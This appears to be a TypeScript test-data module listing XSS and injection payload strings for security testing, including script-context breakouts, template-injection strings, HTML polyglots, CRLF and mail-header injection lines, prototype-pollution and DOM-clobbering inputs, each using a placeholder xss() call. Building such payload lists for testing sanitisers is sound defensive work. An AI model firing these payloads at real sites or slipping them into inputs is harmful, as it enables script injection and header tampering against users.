// biome-ignore-all lint/suspicious/noTemplateCurlyInString: templates of other languages are what is tested
import type { Recipe } from './family.ts';

/** Ends a string or statement where text is put into a script or JSON. */
const scriptContexts: readonly Recipe[] = [
  "';xss();//",
  '";xss();//',
  '`;xss();//',
  "\\';xss();//",
  '\\";xss();//',
  "'-xss()-'",
  '"-xss()-"',
  '${xss()}',
  '`${xss()}`',
  '{{xss()}}',
  "{{constructor.constructor('xss()')()}}",
  "{{$on.constructor('xss()')()}}",
  '<%= xss() %>',
  '#{xss()}',
  '${{xss()}}',
  '[[${xss()}]]',
  '{!xss()!}',
  '\u2028xss()//',
  "\u2029';xss()//",
  'x\u2028</script><script>xss()</script>',
  '*/xss();/*',
  '-->xss()',
  ');xss();(',
  '});xss();({',
  '{"x":"</script><script>xss()</script>"}',
  '{"x":"<!--<script>","y":"xss()"}',
  '<!--<script>',
  '"}]}</script><svg onload=xss()>',
  '{"toString":"xss()","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=xss()>"}}',
  '{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"xss()"}}',
];

/** Polyglots: made to work in many contexts at once. */
const polyglots: readonly Recipe[] = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=xss() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e',
  '">><marquee><img src=x onerror=xss()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=xss()><script>xss()</script>@x<isindex formaction=javascript:xss() type=submit>\'-->"></script>',
  '\'"--></style></script><svg onload=xss()>',
  '\'">><svg/onload=xss()>{{7*7}}${7*7}',
  "\"'--></noscript></title></textarea></template></style></xmp></script><svg/onload='xss()'>",
  'javascript://\'/</title></style></textarea></script>--><p" onclick=xss()//>*/xss()/*',
  '/*"/*`/*\'/**/xss()/*</script><svg onload=xss()>-->',
  '<svg%0Ao%00nload=xss()//>',
  '\'`"><\\x00script>xss()</script>',
  '" onclick=xss()//<button \' onclick=xss()//> */ xss()//',
  '-->\'"/></sCript><svG x=">" onload=(co\\u006efirm)(xss())>',
  '<a"/onclick=(xss())>x</a><p title=\'"><img src=x onerror=xss()>\'>',
  '%0ajavascript:`/*\\"/*-->&lt;svg onload=\'/*</template></noembed></noscript></style></title></textarea></script><html onmouseover="/**/ xss()//\'">`',
];

/** What a mail header, a log line or a response header would take for its own. */
const headers: readonly Recipe[] = [
  'x\r\nBcc: xss()@evil.example',
  'x\nContent-Type: text/html\n\n<script>xss()</script>',
  'x\r\n\r\n<img src=x onerror=xss()>',
  'x%0d%0aSet-Cookie:%20xss()=1',
  'x%0AContent-Type:text/html%0A%0A<script>xss()</script>',
  'x\u0085To: xss()@evil.example',
  'x\u2028Subject: xss()',
  '嘊嘍Set-Cookie:xss()',
  '=?utf-8?q?=3Cscript=3Exss()=3C/script=3E?=',
  '=?utf-8?B?PGltZyBzcmM9eD4=?= xss()',
  '"xss()" <xss@evil.example>, x',
  'x <script>xss()</script> <x@evil.example>',
  '.\r\nMAIL FROM:<xss()@evil.example>',
];

/** Names of built-in properties of objects and documents. */
const names: readonly Recipe[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__[xss()]=x',
  'constructor[prototype][innerHTML]=<img/src/onerror=xss()>',
  '{"__proto__":{"innerHTML":"<img src=x onerror=xss()>"}}',
  '__proto__.srcdoc=<script>xss()</script>',
  '<img name=getElementById src=/icon.svg title="xss()">',
  '<img name=cookie><img name=body><img name=head alt="xss()">',
  '<form id=document name=document><input name=cookie value="xss()"></form>',
  '<form name=body><input name=firstChild><input name=attributes value="xss()"></form>',
  '<a id=defaultView><a id=defaultView name=xss href="cid:xss()">',
  '<a id=location href="javascript:xss()">x</a>',
  '<iframe name=self srcdoc="<a id=location href=javascript:xss()>"></iframe>',
  '<p id="page-data">[{"data":"xss()"}]</p>',
  '<p id="root">xss()</p>',
  '<object id=localStorage data="xss()"></object>',
  '<output id=xss name=xss>xss()</output>',
  'undefined',
  'null',
  'NaN',
];

export const mixtures: readonly Recipe[] = [...scriptContexts, ...polyglots, ...headers, ...names];
